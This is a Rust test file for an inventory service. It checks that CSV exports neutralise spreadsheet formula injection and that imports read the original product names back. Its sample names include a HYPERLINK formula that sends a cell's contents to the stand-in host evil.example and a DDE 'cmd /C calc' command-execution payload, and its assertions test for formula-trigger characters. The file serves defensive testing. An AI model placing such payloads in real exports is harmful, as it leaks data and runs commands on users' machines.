//! Tables for spreadsheets: no cell of them is executed there, numbers stay numbers, and an import restores the
//! original texts.

use super::api::Api;
use super::process::{Node, onhand, run};
use http::Method;
use serde_json::json;
use std::fs;
use tempfile::TempDir;

/// Product names, some of them hostile.
const NAMES: [(&str, &str); 8] = [
    ("A", "=HYPERLINK(\"http://evil.example/?\"&B2;\"sale\")"),
    ("B", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("C", "+ size, \"large\""),
    ("D", "-A-"),
    ("E", "'=1+1"),
    ("-F", "-5"),
    ("G", "Tea = nice"),
    ("H", "\u{ff1d}1+1"),
];

/// All rows of a table; no cell of it may be executable.
async fn table(api: &Api, path: &str) -> Vec<csv::StringRecord> {
    let reply = api.get_with(path, &[("accept", "text/csv")]).await;
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_reader(reply.is(200, "").text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for cell in rows.iter().flatten() {
        let runs =
            cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{ff1d}']) && cell.parse::<i64>().is_err();
        assert!(!runs, "{path}: {cell}");
    }
    rows
}

#[tokio::test(flavor = "multi_thread")]
async fn no_cell_is_run_and_the_import_reads_it_back() {
    let directory = TempDir::new().unwrap();
    let (first, second) =
        (Node::start(&directory.path().join("a"), &[]), Node::start(&directory.path().join("b"), &[]));
    let (api, other) = (Api::of(&first), Api::of(&second));
    for (sku, name) in NAMES {
        api.post("/products", &[], &json!({"sku": sku, "name": name})).await.is(201, "");
        api.post("/stock/add", &[], &json!({"storeId": "-ROME", "sku": sku, "quantity": 5}))
            .await
            .is(200, "");
    }
    let sold =
        json!({"storeId": "-ROME", "sku": "A", "quantity": 2, "reference": "=2+3", "reason": "+1 for free"});
    api.post("/stock/remove", &[], &sold).await.is(200, "");
    let movements = table(&api, "/api/stock/movements").await;
    let last = movements.last().unwrap();
    assert!(
        ["-2", "'-ROME", "'=2+3", "'+1 for free"].iter().all(|cell| last.iter().any(|has| has == *cell)),
        "{last:?}"
    );
    let sums = table(&api, "/stock/movements/sums?by=sku,kind").await;
    assert!(sums.iter().any(|row| row.iter().any(|cell| cell == "-2")), "{sums:?}");
    let current = table(&api, "/stock/current").await;
    assert!(current.iter().any(|row| &row[2] == "''=1+1"), "{current:?}");

    let file = directory.path().join("stock.csv");
    fs::write(&file, api.get_with("/stock/current", &[("accept", "text/csv")]).await.text).unwrap();
    let columns = ["--sku-column", "sku", "--name-column", "name"];
    let mut products = onhand(&["import", "products", file.to_str().unwrap(), "--server", &second.url]);
    products.args(columns);
    let ended = run(products);
    assert_eq!(ended.code, Some(0), "{}{}", ended.stdout, ended.stderr);
    let mut stock = onhand(&["import", file.to_str().unwrap(), "--server", &second.url, "--kind", "opening"]);
    stock.args([
        "--store-column",
        "storeId",
        "--exact-stores",
        "--sku-column",
        "sku",
        "--quantity-column",
        "onHand",
    ]);
    let ended = run(stock);
    assert_eq!(ended.code, Some(0), "{}{}", ended.stdout, ended.stderr);
    for (sku, name) in NAMES {
        assert_eq!(other.get(&format!("/products/{sku}")).await.json["name"], name);
        let pieces = if sku == "A" { 3 } else { 5 };
        assert_eq!(
            other.get(&format!("/stores/-ROME/inventory/{sku}")).await.json["onHand"],
            pieces,
            "{sku}"
        );
    }
    let head =
        other.try_send(Method::HEAD, "/stock/current", &[("accept", "text/csv")], Vec::new()).await.unwrap();
    assert_eq!(head.is(200, "").text, "");
    first.stop();
    second.stop();
}

/// The report of rejected rows has the cells as they were, for correction; they are not executed either.
#[tokio::test(flavor = "multi_thread")]
async fn a_report_is_no_program() {
    let directory = TempDir::new().unwrap();
    let (file, report) = (directory.path().join("sales.csv"), directory.path().join("refused.csv"));
    fs::write(&file, "shop,item,qty\n=cmd(),TEA,x\nROME,=1+1,-5\nROME,TEA,@A1\nROME,TEA,-0\n").unwrap();
    let mut import =
        onhand(&["import", file.to_str().unwrap(), "--dry-run", "--report", report.to_str().unwrap()]);
    import.args(["--store-column", "shop", "--sku-column", "item", "--quantity-column", "qty"]);
    let ended = run(import);
    assert_eq!(ended.code, Some(0), "{}{}", ended.stdout, ended.stderr);
    let mut reader = csv::Reader::from_path(&report).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cells: Vec<Vec<&str>> = rows.iter().map(|row| row.iter().skip(4).take(3).collect()).collect();
    let expected =
        [["'=cmd()", "TEA", "x"], ["ROME", "'=1+1", "-5"], ["ROME", "TEA", "'@A1"], ["ROME", "TEA", "-0"]];
    assert_eq!(cells, expected);
}
